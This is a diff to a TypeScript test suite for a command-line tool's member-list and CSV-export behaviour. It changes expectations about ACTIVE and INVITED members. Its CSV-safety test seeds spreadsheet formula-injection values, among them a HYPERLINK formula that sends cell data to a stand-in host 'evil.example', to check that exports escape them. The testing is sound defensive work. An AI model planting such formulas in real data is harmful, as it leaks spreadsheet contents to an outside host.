@@ -78,7 +78,9 @@ describe.each(engines())('lists on %s', (engine) => {
       status: 'ACTIVE',
     });
     for (const m of all.slice(1)) {
-      if (isRegistered.get(m.email)) expect(m.firstName, m.email).toMatch(/^Name\d+$/);
+      // Names are listed once a member has accepted (ACTIVE); INVITED ones show none.
+      if (isRegistered.get(m.email) && m.status === 'ACTIVE') expect(m.firstName, m.email).toMatch(/^Name\d+$/);
+      else if (isRegistered.get(m.email)) expect(m, m.email).toMatchObject({ firstName: null, status: 'INVITED' });
       else expect(m, m.email).toMatchObject({ firstName: null, lastName: null, status: 'PENDING' });
     }
 
@@ -242,7 +244,8 @@ describe.each(engines())('large lists on %s', (engine) => {
     expect(list.exitCode, list.stderr).toBe(0);
     const members = JSON.parse(list.stdout) as Member[];
     expect(members).toHaveLength(total + 1);
-    expect(members.filter((m) => m.firstName === long(7) && m.lastName === long(7))).toHaveLength(1);
+    // The 8th account is ACTIVE (fillCompany alternates ACTIVE and INVITED): its name is listed.
+    expect(members.filter((m) => m.firstName === long(8) && m.lastName === long(8))).toHaveLength(1);
     const admins = await zed.run(['--json', 'member', 'list', '--role', 'ADMINISTRATOR']);
     expect(admins.exitCode, admins.stderr).toBe(0);
     expect(JSON.parse(admins.stdout)).toHaveLength(total / 3);
@@ -267,7 +270,6 @@ describe.each(engines())('CSV safety on %s', (engine) => {
       t.seed('bob@example.com', 'Bob', 'Jones'),
       t.seed('=reg@example.com', '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+SUM(1,2)'),
     ]);
-    void evil;
     expect((await ann.run(['staff', 'grant', 'ann@example.com'])).exitCode).toBe(0);
     const smith = (await ann.json(['account', 'show'])).currentCompany.id as number;
     const jones = (await bob.json(['account', 'show'])).currentCompany.id as number;
@@ -284,6 +286,8 @@ describe.each(engines())('CSV safety on %s', (engine) => {
     ];
     const inv = await ann.run(['member', 'invite', '--role', 'DESIGNER', '--', ...hostile]);
     expect(inv.exitCode, inv.stderr).toBe(0);
+    // The registered one accepts: a member's name is listed once they are ACTIVE.
+    expect((await evil.run(['company', 'switch', 'Smith Company'])).exitCode).toBe(0);
     // A stored name may hold what validation refuses today (an older store): a leading tab.
     await t.write((tx) => tx.run(`UPDATE users SET last_name = :n WHERE email = '=reg@example.com'`, { n: '\t=1+1' }));
 
@@ -299,7 +303,7 @@ describe.each(engines())('CSV safety on %s', (engine) => {
     );
     expect(list.stdout).toContain(
       // (the last row: the harness strips stdout's final newline)
-      `'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,INVITED`,
+      `'=reg@example.com,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'\t=1+1,DESIGNER,ACTIVE`,
     );
 
     const exported = await ann.run(['member', 'export']);
